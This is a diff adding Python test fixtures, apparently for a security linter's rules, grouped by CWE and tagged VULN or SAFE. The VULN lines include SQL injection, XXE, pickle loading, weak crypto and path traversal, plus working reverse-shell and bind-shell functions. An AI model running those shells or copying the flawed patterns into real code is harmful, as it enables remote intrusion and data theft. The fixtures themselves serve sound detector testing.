@@ -1618,4 +1618,493 @@ def connect(user, password, api_key):
     logging.error("login failed for %s (password length %d)", user, len(password))  # SAFE
 `,
   ),
+  // ---------------------------------------------------------------- p2 (written blind after the first part's fixes)
+  ...rules(
+    "CWE-470",
+    "batch88: p2 dispatch to a module attribute or import named by the request",
+    `
+import importlib
+
+from flask import Flask, request, abort
+
+from . import handlers, exporters
+
+app = Flask(__name__)
+ALLOWED = {"csv": exporters.to_csv, "json": exporters.to_json}
+
+
+@app.post("/hook/<name>")
+def hook(name):
+    fn = getattr(handlers, name)  # VULN
+    return fn(request.get_json())
+
+
+@app.post("/hook2/<name>")
+def hook2(name):
+    if name not in ("created", "deleted"):
+        abort(404)
+    fn = getattr(handlers, "on_" + name)  # SAFE
+    return fn(request.get_json())
+
+
+@app.get("/export")
+def export():
+    fmt = request.args.get("fmt", "csv")
+    mod = importlib.import_module("exporters." + fmt)  # VULN
+    fn = ALLOWED.get(fmt)  # SAFE
+    plugin = __import__(request.args["plugin"])  # VULN
+    cls = getattr(importlib.import_module("app.models"), request.args["model"])  # VULN
+    return str((mod, fn, plugin, cls))
+`,
+  ),
+  ...rules(
+    "CWE-916",
+    "batch88: p2 password hashing with too few iterations or cost",
+    `
+import hashlib
+
+import bcrypt
+from cryptography.hazmat.primitives import hashes
+from cryptography.hazmat.primitives.kdf.pbkdf2 import PBKDF2HMAC
+from cryptography.hazmat.primitives.kdf.scrypt import Scrypt
+from passlib.hash import pbkdf2_sha256, sha512_crypt
+
+
+def hash_pw(password: str, salt: bytes):
+    a = hashlib.pbkdf2_hmac("sha256", password.encode(), salt, 1000)  # VULN
+    b = hashlib.pbkdf2_hmac("sha256", password.encode(), salt, 600_000)  # SAFE
+    kdf = PBKDF2HMAC(algorithm=hashes.SHA256(), length=32, salt=salt, iterations=5000)  # VULN
+    kdf2 = PBKDF2HMAC(algorithm=hashes.SHA256(), length=32, salt=salt, iterations=480000)  # SAFE
+    c = bcrypt.hashpw(password.encode(), bcrypt.gensalt(rounds=4))  # VULN
+    d = bcrypt.hashpw(password.encode(), bcrypt.gensalt())  # SAFE
+    e = Scrypt(salt=salt, length=32, n=2**4, r=8, p=1).derive(password.encode())  # VULN
+    f = pbkdf2_sha256.using(rounds=1000).hash(password)  # VULN
+    g = pbkdf2_sha256.hash(password)  # SAFE
+    h = hashlib.sha512(salt + password.encode()).hexdigest()  # VULN
+    i = sha512_crypt.hash(password)  # SAFE
+    return a, b, kdf.derive(password.encode()), kdf2.derive(password.encode()), c, d, e, f, g, h, i
+`,
+  ),
+  ...rules(
+    "CWE-326",
+    "batch88: p2 key sizes and curves passed by keyword or through names",
+    `
+from Crypto.PublicKey import DSA, RSA
+from cryptography.hazmat.primitives.asymmetric import dsa, ec, rsa
+from cryptography.hazmat.primitives.asymmetric.rsa import generate_private_key as gen_rsa
+from OpenSSL import crypto
+
+KEY_BITS = 1024
+
+
+def keys():
+    a = rsa.generate_private_key(public_exponent=65537, key_size=KEY_BITS)  # VULN
+    b = rsa.generate_private_key(public_exponent=65537, key_size=3072)  # SAFE
+    c = gen_rsa(65537, 512)  # VULN
+    d = dsa.generate_private_key(key_size=1024)  # VULN
+    e = ec.generate_private_key(ec.SECP192R1())  # VULN
+    f = ec.generate_private_key(curve=ec.SECP256R1())  # SAFE
+    g = RSA.generate(bits=1024)  # VULN
+    h = DSA.generate(2048)  # SAFE
+    pk = crypto.PKey()
+    pk.generate_key(crypto.TYPE_RSA, 1024)  # VULN
+    pk2 = crypto.PKey()
+    pk2.generate_key(crypto.TYPE_RSA, 4096)  # SAFE
+    return a, b, c, d, e, f, g, h, pk, pk2
+`,
+  ),
+  ...rules(
+    "CWE-327",
+    "batch88: p2 ssl and pyOpenSSL contexts pinned to broken protocol versions",
+    `
+import socket
+import ssl
+
+from OpenSSL import SSL
+
+
+def ctx_old():
+    a = ssl.SSLContext(ssl.PROTOCOL_TLSv1)  # VULN
+    b = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)  # SAFE
+    c = SSL.Context(SSL.SSLv3_METHOD)  # VULN
+    d = SSL.Context(SSL.TLSv1_METHOD)  # VULN
+    e = SSL.Context(SSL.TLS_CLIENT_METHOD)  # SAFE
+    f = ssl.create_default_context()
+    f.minimum_version = ssl.TLSVersion.TLSv1  # VULN
+    g = ssl.create_default_context()
+    g.minimum_version = ssl.TLSVersion.TLSv1_2  # SAFE
+    h = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
+    h.set_ciphers("ALL:!aNULL:RC4")  # VULN
+    s = ssl.wrap_socket(socket.socket(), ssl_version=ssl.PROTOCOL_SSLv23)  # VULN CWE-295
+    return a, b, c, d, e, f, g, h, s
+`,
+  ),
+  ...rules(
+    "CWE-330",
+    "batch88: p2 tokens and reset codes from uuid1, time or random",
+    `
+import random
+import secrets
+import time
+import uuid
+from random import choice, randint
+
+
+def reset_token(user):
+    token = str(uuid.uuid1())  # VULN
+    token2 = str(uuid.uuid4())  # SAFE
+    code = randint(100000, 999999)  # VULN CWE-338
+    code2 = secrets.randbelow(900000) + 100000  # SAFE
+    nonce = "".join(choice("abcdef0123456789") for _ in range(32))  # VULN CWE-338
+    api_key = "%x" % int(time.time() * 1000)  # VULN
+    sid = random.getrandbits(128)  # VULN CWE-338
+    sid2 = secrets.token_hex(16)  # SAFE
+    jitter = random.uniform(0.5, 1.5)  # SAFE
+    return token, token2, code, code2, nonce, api_key, sid, sid2, jitter
+`,
+  ),
+  ...rules(
+    "CWE-78",
+    "batch88: p2 reverse shells and shells bound to sockets",
+    `
+import os
+import pty
+import socket
+import subprocess
+
+
+def connect_back(host, port):
+    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+    s.connect((host, port))
+    os.dup2(s.fileno(), 0)
+    os.dup2(s.fileno(), 1)
+    os.dup2(s.fileno(), 2)
+    pty.spawn("/bin/sh")  # VULN
+
+
+def connect_back2(host, port):
+    s = socket.create_connection((host, port))
+    subprocess.call(["/bin/bash", "-i"], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())  # VULN
+
+
+def serve_shell():
+    srv = socket.socket()
+    srv.bind(("0.0.0.0", 4444))
+    srv.listen(1)
+    conn, _ = srv.accept()
+    while True:
+        cmd = conn.recv(1024).decode()
+        out = subprocess.getoutput(cmd)  # VULN
+        conn.send(out.encode())
+
+
+def status():
+    return subprocess.run(["/bin/sh", "-c", "uptime"], capture_output=True).stdout  # SAFE
+`,
+  ),
+  ...rules(
+    "CWE-1333",
+    "batch88: p2 regular expressions compiled from request data",
+    `
+import re
+
+import regex
+from django.http import JsonResponse
+
+
+def search(request):
+    pattern = request.GET["pattern"]
+    rx = re.compile(pattern)  # VULN
+    rx2 = re.compile(re.escape(pattern))  # SAFE
+    hits = [t for t in request.user.notes.values_list("text", flat=True) if re.search(pattern, t)]  # VULN
+    rx3 = regex.compile(request.GET["p2"], timeout=0.1)  # SAFE
+    rx4 = regex.compile(request.GET["p3"])  # VULN
+    return JsonResponse({"n": len(hits), "a": bool(rx), "b": bool(rx2), "c": bool(rx3), "d": bool(rx4)})
+`,
+  ),
+  ...rules(
+    "CWE-134",
+    "batch88: p2 format strings supplied by the request",
+    `
+from django.conf import settings
+from django.http import HttpResponse
+from flask import Flask, request as freq
+
+app = Flask(__name__)
+
+
+def greet(request):
+    tpl = request.GET.get("tpl", "Hello {user.username}")
+    return HttpResponse(tpl.format(user=request.user))  # VULN
+
+
+def greet_fixed(request):
+    return HttpResponse("Hello {}".format(request.GET.get("name", "")), content_type="text/plain")  # SAFE
+
+
+@app.get("/msg")
+def msg():
+    fmt = freq.args["fmt"]
+    return fmt.format(config=app.config)  # VULN
+
+
+@app.get("/msg2")
+def msg2():
+    fmt = freq.args["fmt"]
+    return (fmt % {"site": "example"}).replace("<", "&lt;")  # VULN
+
+
+def banner(request):
+    return HttpResponse("Welcome to %s" % settings.SITE_NAME, content_type="text/plain")  # SAFE
+`,
+  ),
+  ...rules(
+    "CWE-22",
+    "batch88: p2 archives extracted without member checks",
+    `
+import shutil
+import tarfile
+import zipfile
+
+from flask import Flask, request
+
+app = Flask(__name__)
+
+
+@app.post("/upload")
+def upload():
+    f = request.files["archive"]
+    f.save("/tmp/up.tar")
+    with tarfile.open("/tmp/up.tar") as tf:
+        tf.extractall("/srv/data")  # VULN
+    with tarfile.open("/tmp/up.tar") as tf:
+        tf.extractall("/srv/data", filter="data")  # SAFE
+    with tarfile.open("/tmp/up.tar") as tf:
+        for m in tf.getmembers():
+            tf.extract(m, "/srv/data")  # VULN
+    shutil.unpack_archive("/tmp/up.tar", "/srv/data2")  # VULN
+    with zipfile.ZipFile(request.files["zip"]) as zf:
+        for name in zf.namelist():
+            with open("/srv/data3/" + name, "wb") as out:  # VULN
+                out.write(zf.read(name))
+        zf.extractall("/srv/data4")  # SAFE
+    return "ok"
+`,
+  ),
+  ...rules(
+    "CWE-502",
+    "batch88: p2 session and cache backends that pickle",
+    `
+import pickle
+
+import redis
+from flask import Flask
+from flask_caching import Cache
+from flask_session import Session
+
+app = Flask(__name__)
+r = redis.Redis(host="cache", port=6379)
+
+
+def cached_user(uid):
+    raw = r.get("user:%s" % uid)
+    return pickle.loads(raw) if raw else None  # VULN
+
+
+def cached_user_json(uid):
+    import json
+
+    raw = r.get("user:%s" % uid)
+    return json.loads(raw) if raw else None  # SAFE
+
+
+SESSION_SERIALIZER = "django.contrib.sessions.serializers.PickleSerializer"  # VULN
+SESSION_SERIALIZER_OK = "django.contrib.sessions.serializers.JSONSerializer"  # SAFE
+`,
+  ),
+  ...rules(
+    "CWE-328",
+    "batch88: p2 Django password hashers and weak digests in settings",
+    `
+PASSWORD_HASHERS = [
+    "django.contrib.auth.hashers.MD5PasswordHasher",  # VULN
+    "django.contrib.auth.hashers.PBKDF2PasswordHasher",  # SAFE
+    "django.contrib.auth.hashers.UnsaltedSHA1PasswordHasher",  # VULN
+    "django.contrib.auth.hashers.Argon2PasswordHasher",  # SAFE
+]
+`,
+  ),
+  ...rules(
+    "CWE-319",
+    "batch88: p2 Django security settings that allow plain HTTP",
+    `
+SECURE_SSL_REDIRECT = False  # VULN
+SESSION_COOKIE_SECURE = False  # VULN CWE-614
+CSRF_COOKIE_SECURE = False  # VULN CWE-614
+SECURE_HSTS_SECONDS = 0  # VULN
+SESSION_COOKIE_HTTPONLY = True  # SAFE
+SECURE_PROXY_SSL_HEADER = ("HTTP_X_FORWARDED_PROTO", "https")  # SAFE
+`,
+  ),
+  ...rules(
+    "CWE-319",
+    "batch88: p2 mail, FTP and telnet logins in cleartext",
+    `
+import ftplib
+import smtplib
+import telnetlib
+from ftplib import FTP, FTP_TLS
+
+
+def send(user, password, msg):
+    s = smtplib.SMTP("smtp.example.com", 587)
+    s.login(user, password)  # VULN
+    s.sendmail(user, ["ops@example.com"], msg)
+    t = smtplib.SMTP("smtp.example.com", 587)
+    t.starttls()
+    t.login(user, password)  # SAFE
+    u = smtplib.SMTP_SSL("smtp.example.com", 465)
+    u.login(user, password)  # SAFE
+
+
+def fetch(user, password):
+    f = FTP("ftp.example.com")
+    f.login(user, password)  # VULN
+    g = FTP_TLS("ftp.example.com")
+    g.login(user, password)  # SAFE
+    g.prot_p()
+    h = ftplib.FTP("ftp.example.com", user, password)  # VULN
+    tn = telnetlib.Telnet("switch01.example.com")  # VULN
+    tn.write(password.encode() + b"\\n")
+    return f, g, h, tn
+`,
+  ),
+  ...rules(
+    "CWE-1385",
+    "batch88: p2 WebSocket servers without an Origin check",
+    `
+import websockets
+from flask import Flask
+from flask_socketio import SocketIO
+from tornado import websocket
+
+app = Flask(__name__)
+sio = SocketIO(app, cors_allowed_origins="*")  # VULN CWE-942
+sio_ok = SocketIO(app, cors_allowed_origins=["https://app.example.com"])  # SAFE
+
+
+class Feed(websocket.WebSocketHandler):
+    def check_origin(self, origin):
+        return True  # VULN
+
+
+class Feed2(websocket.WebSocketHandler):
+    def check_origin(self, origin):
+        return origin == "https://app.example.com"  # SAFE
+
+
+async def main(handler):
+    await websockets.serve(handler, "0.0.0.0", 8765, origins=["https://app.example.com"])  # SAFE
+`,
+  ),
+  ...rules(
+    "CWE-89",
+    "batch88: p2 SQL built in helpers and passed on",
+    `
+import sqlite3
+
+from flask import Flask, request, g
+
+app = Flask(__name__)
+
+
+def db():
+    if "db" not in g:
+        g.db = sqlite3.connect("app.db")
+    return g.db
+
+
+def where_clause(field, value):
+    return "WHERE %s = '%s'" % (field, value)
+
+
+def query(sql, args=()):
+    cur = db().execute(sql, args)  # VULN
+    return cur.fetchall()
+
+
+@app.get("/find")
+def find():
+    return {"rows": query("SELECT * FROM users " + where_clause("name", request.args["name"]))}
+
+
+@app.get("/find2")
+def find2():
+    return {"rows": query("SELECT * FROM users WHERE name = ?", (request.args["name"],))}
+
+
+@app.get("/sorted")
+def sorted_rows():
+    col = request.args.get("sort", "id")
+    cols = {"id": "id", "name": "name"}
+    return {"rows": db().execute("SELECT * FROM users ORDER BY " + cols.get(col, "id")).fetchall()}  # SAFE
+
+
+@app.get("/many")
+def many():
+    ids = request.args.getlist("id")
+    marks = ",".join("?" * len(ids))
+    a = db().execute(f"SELECT * FROM users WHERE id IN ({marks})", ids).fetchall()  # SAFE
+    b = db().execute(f"SELECT * FROM users WHERE id IN ({','.join(ids)})").fetchall()  # VULN
+    c = db().executescript("DELETE FROM tmp WHERE tag = '" + request.args["tag"] + "'")  # VULN
+    return {"a": a, "b": b, "c": str(c)}
+`,
+  ),
+  ...rules(
+    "CWE-611",
+    "batch88: p2 xml parsing of uploads with the standard library and lxml",
+    `
+import xml.etree.ElementTree as ET
+from xml.sax import parseString as sax_parse
+from xml.sax.handler import ContentHandler
+
+from lxml import etree
+from flask import Flask, request
+
+app = Flask(__name__)
+
+
+@app.post("/feed")
+def feed():
+    body = request.get_data()
+    root = etree.fromstring(body)  # VULN
+    safe_root = etree.fromstring(body, etree.XMLParser(resolve_entities=False))  # SAFE
+    tree = etree.parse(request.files["doc"], parser=etree.XMLParser(load_dtd=True, no_network=False))  # VULN
+    et_root = ET.fromstring(body)  # VULN CWE-776
+    sax_parse(body, ContentHandler())  # VULN CWE-776
+    return str((root, safe_root, tree, et_root))
+`,
+  ),
+  ...rules(
+    "CWE-532",
+    "batch88: p2 secrets logged through structlog, loguru and exception handlers",
+    `
+import logging
+
+import structlog
+from loguru import logger
+
+log = structlog.get_logger()
+std = logging.getLogger("auth")
+
+
+def login(username, password, otp_secret, session_token):
+    log.info("login attempt", user=username, password=password)  # VULN
+    logger.debug("otp secret for {}: {}", username, otp_secret)  # VULN
+    std.info("session %s started for %s", session_token, username)  # VULN
+    log.info("login attempt", user=username)  # SAFE
+    logger.info("user {} logged in", username)  # SAFE
+    std.debug("token prefix %s", session_token[:6])  # SAFE
+`,
+  ),
 ];
